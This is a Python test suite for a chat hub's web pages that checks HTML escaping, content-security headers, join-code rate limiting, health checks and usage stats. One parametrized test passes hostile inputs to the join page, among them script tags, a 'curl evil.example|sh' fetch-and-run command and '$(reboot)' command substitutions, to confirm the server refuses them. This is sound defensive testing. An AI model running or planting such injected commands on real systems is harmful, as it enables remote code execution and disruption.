"""Landing and join pages, health, and what the hub says of itself."""

import asyncio
import json
import re
from typing import Any

import pytest

from hub.errors import CannotStart, Refusal
from hub.settings import read_settings
from parler.wire.codes import ErrorCode
from tests._support.plainclient import PlainAgent
from tests._support.plainhttp import fetch
from tests.conformance.steps import join, open_room
from tests.hub.conftest import RunningHub, StartHub

SECRET = "correct-horse-battery-staple"


def test_landing_page_escapes_what_the_operator_named(start_hub: StartHub) -> None:
    hub = start_hub(
        name='<script>alert("hub")</script>', web='https://x.example/?a="><img>'
    )
    answer = hub.get("/")
    assert answer.status == 200
    assert answer.headers["content-type"] == "text/html; charset=utf-8"
    assert "<script" not in answer.text
    assert "<img" not in answer.text
    assert "&lt;script&gt;" in answer.text
    assert "default-src 'none'" in answer.headers["content-security-policy"]


def test_the_page_of_a_phone_loads_from_this_hub_alone(hub: RunningHub) -> None:
    for name in ("", "/phone.css", "/phone.js", "/wire.js"):
        answer = hub.get(f"/phone{name}")
        assert answer.status == 200
        rules = answer.headers["content-security-policy"].split("; ")
        assert {"default-src 'none'", "script-src 'self'", "connect-src 'self'"} < {
            *rules
        }
        assert "https:" not in answer.text
    for name in ("index.py", "..%2fpages.py", "%2e%2e%2fpages.py"):
        assert hub.get(f"/phone/{name}").status == 404


def test_no_page_tells_the_join_secret(start_hub: StartHub) -> None:
    hub = start_hub(join_secret=SECRET)
    for path in ("/", "/api/hub", "/.well-known/parler.json", "/join/ABCD2345"):
        assert SECRET not in hub.get(path).text
    described = hub.get("/.well-known/parler.json").json()
    assert described["capabilities"]["joinPolicy"] == "secret"


def test_web_link_that_would_run_code_is_refused_at_start() -> None:
    with pytest.raises(CannotStart):
        read_settings(["--web", "javascript:alert(1)"], {})
    assert read_settings([], {"PARLER_HUB_WEB": "https://x"}).web == "https://x"


BROWSER = {"Accept": "text/html,application/xhtml+xml,*/*;q=0.8"}


async def made_key(hub: RunningHub, **fields: Any) -> tuple[str, str]:
    """A key, and its room."""
    async with PlainAgent.create("ada").dial(hub.url) as ada:
        opened = await open_room(ada, **fields)
        return str(opened["code"]), str(opened["room"])


def test_join_page_says_how_to_enter_and_nothing_of_the_room(hub: RunningHub) -> None:
    code, room = asyncio.run(made_key(hub, maxUses=1))
    for _ in range(3):  # looking uses nothing up
        plain = hub.get(f"/join/{code}")
        assert plain.headers["content-type"].startswith("text/plain")
        assert f"parler session join {code}@" in plain.text
        page = hub.get(f"/join/{code}", headers=BROWSER)
        assert page.headers["content-type"].startswith("text/html")
        assert f"<pre>parler session join {code}@" in page.text
        assert "sealed" not in plain.text + page.text
        assert "install.sh" in page.text
        for answer in (plain, page):
            assert answer.status == 200
            assert answer.headers["cache-control"] == "no-store"
            assert answer.headers["referrer-policy"] == "no-referrer"
            assert room not in answer.text
            assert "ada" not in answer.text
        policy = page.headers["content-security-policy"]
        assert "default-src 'none'" in policy
        assert "unsafe" not in policy

    for headers in ({}, BROWSER):  # a sealed key, all of which came in the path
        sealed = hub.get(f"/join/{code}.{'ab2' * 40}", headers=headers)
        assert sealed.status == 200
        assert "belongs after a #" in sealed.text
        assert "ab2ab2" not in sealed.text

    async def enter() -> None:
        async with PlainAgent.create("bob").dial(hub.url) as bob:
            await join(bob, code)

    asyncio.run(enter())
    for headers in ({}, BROWSER):  # used up, it looks like any other
        used, unknown = (
            hub.get(f"/join/{one}", headers=headers) for one in (code, "ABCD2345")
        )
        assert (used.status, used.body) == (unknown.status, unknown.body)
        assert used.status == 404


def test_who_guesses_at_the_join_page_soon_learns_nothing_more(
    start_hub: StartHub,
) -> None:
    hub = start_hub()
    code, _ = asyncio.run(made_key(hub))

    async def guess(key: str) -> int:
        return (await fetch(hub.url, f"/join/{key}")).status

    async def story() -> list[int]:
        # Right keys cost nothing; what is asked at once is counted as what is not.
        assert [await guess(code) for _ in range(40)] == [200] * 40
        wrong = [guess(f"ABCD{number:04}") for number in range(60)]
        return sorted(await asyncio.gather(*wrong))

    assert asyncio.run(story()) == [404] * 30 + [429] * 30
    for headers in ({}, BROWSER):
        answer = hub.get(f"/join/{code}", headers=headers)
        assert (answer.status, answer.headers["retry-after"]) == (429, "60")
        assert code not in answer.text

    async def redeem() -> None:
        async with PlainAgent.create("eve").dial(hub.url) as eve:
            await eve.expect_error("rate_limited", "redeem", code="ABCDEFGH")

    asyncio.run(redeem())  # one budget for both doors


def test_page_of_a_session_is_for_everybody_and_holds_nothing(hub: RunningHub) -> None:
    page = hub.get("/session?token=seen", headers=BROWSER)
    assert (page.status, page.headers["cache-control"]) == (200, "no-store")
    assert page.headers["x-content-type-options"] == "nosniff"
    assert page.headers["x-frame-options"] == "DENY"
    assert "default-src 'none'" in page.headers["content-security-policy"]
    assert "seen" not in page.text
    assert re.findall("<script[^>]*>", page.text) == ['<script src="session.js" defer>']
    for name, kind in (("hub.css", "text/css"), ("session.js", "text/javascript")):
        assert hub.get(f"/{name}").headers["content-type"].startswith(kind)


@pytest.mark.parametrize(
    "code",
    [
        "%3Cscript%3Ealert(1)%3C%2Fscript%3E",
        "X;curl%20evil.example|sh",
        "%1b%5b2Jclear",
        "a" * 65,
        "%24(reboot)",
        "%60reboot%60",
        "two%20words",
    ],
)
def test_join_page_repeats_nothing_a_shell_or_terminal_would_obey(
    hub: RunningHub, code: str
) -> None:
    answer = hub.get(f"/join/{code}")
    assert answer.status == 404
    for dangerous in ("script", "curl", "clear", "reboot", "aaa", "words"):
        assert dangerous not in answer.text


def test_health_is_exactly_ok(hub: RunningHub) -> None:
    answer = hub.get("/health")
    assert (answer.status, answer.body) == (200, b"ok")


def test_health_writes_but_not_for_everybody_who_asks(start_hub: StartHub) -> None:
    hub = start_hub()
    before = hub.hub.store.writes
    assert all(hub.get("/health").status == 200 for _ in range(20))
    assert 1 <= hub.hub.store.writes - before <= 5


def test_health_fails_when_nothing_can_be_written(
    start_hub: StartHub, monkeypatch: pytest.MonkeyPatch
) -> None:
    hub = start_hub()

    async def full(*given: object, **options: object) -> None:
        raise Refusal(ErrorCode.STORAGE_FULL, "no space")

    monkeypatch.setattr(hub.hub.store, "write", full)
    answer = hub.get("/health")
    assert answer.status == 503
    assert answer.headers["content-type"].startswith("text/plain")


def test_health_fails_when_the_database_hangs(
    start_hub: StartHub, monkeypatch: pytest.MonkeyPatch
) -> None:
    hub = start_hub()

    async def hang(*given: object, **options: object) -> None:
        await asyncio.Event().wait()

    monkeypatch.setattr("hub.http.pages.PROBE_SECS", 0.01)
    monkeypatch.setattr(hub.hub.store, "write", hang)
    assert hub.get("/health").status == 503


def test_hub_counts_what_happened(start_hub: StartHub) -> None:
    hub = start_hub()

    async def story() -> None:
        async with (
            PlainAgent.create("ada").dial(hub.url) as ada,
            PlainAgent.create("bob").dial(hub.url) as bob,
        ):
            room = await open_room(ada)
            await join(bob, room["code"])
            await bob.ask("subscribed", "subscribe")
            await ada.send_text(room["room"], "four words in here")
            await bob.next_delivery()

    asyncio.run(story())
    stats = hub.get("/api/hub").json()["stats"]
    assert stats["connectionsTotal"] == 2
    assert stats["messagesTotal"] == 1
    assert stats["estimatedTokensTotal"] == 5  # 18 characters
    assert stats["pushesTotal"] == 1


def test_totals_do_not_shrink_when_a_room_is_deleted(start_hub: StartHub) -> None:
    hub = start_hub()

    async def say(count: int) -> None:
        async with PlainAgent.create("ada").dial(hub.url) as ada:
            room = (await open_room(ada))["room"]
            for _ in range(count):
                await ada.send_text(room, "abcd")
            await asyncio.to_thread(hub.get, "/api/hub")
            await ada.ask("room_deleted", "delete_room", room=room)

    asyncio.run(say(3))
    tally = hub.get("/api/hub").json()["stats"]
    assert (tally["messagesTotal"], tally["estimatedTokensTotal"]) == (3, 3)


def test_json_is_compact(hub: RunningHub) -> None:
    body = hub.get("/api/hub").body
    assert body == json.dumps(json.loads(body), separators=(",", ":")).encode()
    assert b'"longPoll":true' in body
